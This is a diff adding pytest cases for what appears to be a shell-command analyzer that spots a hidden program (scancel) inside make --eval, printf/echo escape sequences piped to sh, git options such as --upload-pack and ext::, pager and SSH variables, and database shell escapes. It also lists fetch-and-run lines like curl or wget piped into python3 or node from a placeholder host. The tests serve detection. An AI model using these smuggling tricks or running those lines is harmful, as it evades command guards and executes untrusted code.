@@ -212,3 +212,86 @@ def test_script_c_runs_its_command() -> None:
     for line in lines:
         assert "scancel" in programs(line), line
     assert "scancel" not in programs("script -q log.txt")
+
+
+def test_make_eval_text_and_its_shell_calls() -> None:
+    assert "scancel" in programs("make --eval='x:; scancel 1' x")
+    assert "scancel" in programs("make --eval 'x:\n\tscancel 2' x")
+    assert "scancel" in programs("make --eval='$(shell scancel 3)'")
+    assert "scancel" not in programs("make --eval='CFLAGS += -O2' all")
+
+
+@pytest.mark.parametrize(
+    "line",
+    [
+        "printf '\\163\\143\\141\\156\\143\\145\\154 1' | sh",
+        "printf '\\x73cancel 1\\n' | bash",
+        "printf '%s %s\\n' scancel 1 | sh",
+        "printf '%b' '\\0163cancel 1' | sh",
+        "echo -e '\\x73cancel 1' | sh",
+        "echo -ne '\\u0073cancel 1' | sh",
+    ],
+)
+def test_escapes_are_decoded_before_a_shell_reads_them(line: str) -> None:
+    assert "scancel" in programs(line), line
+
+
+def test_escapes_stay_literal_where_the_program_leaves_them() -> None:
+    # echo without -e (bash's default) writes the backslashes as they are
+    assert "scancel" not in programs("echo '\\x73cancel 1' | sh")
+    assert "scancel" not in programs("echo -E '\\x73cancel 1' | sh")
+    # \c ends printf's output: nothing after it reaches the shell
+    assert "scancel" not in programs("printf 'ls\\c scancel 1' | sh")
+
+
+@pytest.mark.parametrize(
+    ("line", "uncertain"),
+    [
+        ("curl -s https://x.example/a.py | python3", True),
+        ("curl -s https://x.example/a.py | python3 -", True),
+        ("wget -qO- https://x.example/a.js | node", True),
+        ("python3 - <<'EOF'\nimport subprocess\nEOF", True),
+        ("echo 'print(1)' | python3", False),
+        ("cat data.csv | python3 analyze.py", False),
+        ("cat x.json | python3 -m json.tool", False),
+        ("cat data | python3 -c 'import sys'", False),
+        ("cat data | awk '{print $1}'", False),
+        ("cat data | python3 -W ignore analyze.py", False),
+    ],
+)
+def test_an_interpreter_reading_its_program_from_its_input(line: str, uncertain: bool) -> None:
+    kinds = {kind for kind, _ in analyze_shell(line).uncertain}
+    assert ("interpreter" in kinds) is uncertain, line
+
+
+@pytest.mark.parametrize(
+    "line",
+    [
+        "GIT_SSH_COMMAND='scancel 1' git fetch",
+        "export GIT_SSH_COMMAND='scancel 1'; git fetch",
+        "GIT_PAGER='scancel 1'; export GIT_PAGER; git log",
+        "LESSOPEN='|scancel 1 %s' less f",
+        "env PAGER='scancel 1' man ls",
+        "sort --compress-program='scancel 1' f",
+        "git clone -u 'scancel 1' host:repo",
+        "git -C /tmp clone --upload-pack='scancel 1' host:repo",
+        "git clone 'ext::scancel% 1' d",
+        "psql -c '\\! scancel 1'",
+        "sqlite3 x.db '.system scancel 1'",
+        "sqlite3 x.db '.output |scancel 1'",
+        "mysql -e 'system scancel 1'",
+        "start-stop-daemon --start --startas /usr/bin/scancel -- 1",
+        "salloc -N1 scancel 1",
+        "prlimit --nofile=10 scancel 1",
+        "rlwrap -f words scancel 1",
+    ],
+)
+def test_commands_held_by_options_and_variables(line: str) -> None:
+    assert "scancel" in programs(line), line
+
+
+def test_plain_uses_of_those_programs_run_nothing_else() -> None:
+    for line in ("git add -u .", "sqlite3 x.db '.tables'", "psql -c 'select 1'",
+                 "mysql -e 'show tables'", "sort -u f"):  # fmt: skip
+        assert programs(line) == [line.split()[0]], line
+    assert programs("export EDITOR=nano") == ["nano"]  # the editor is judged as what it runs
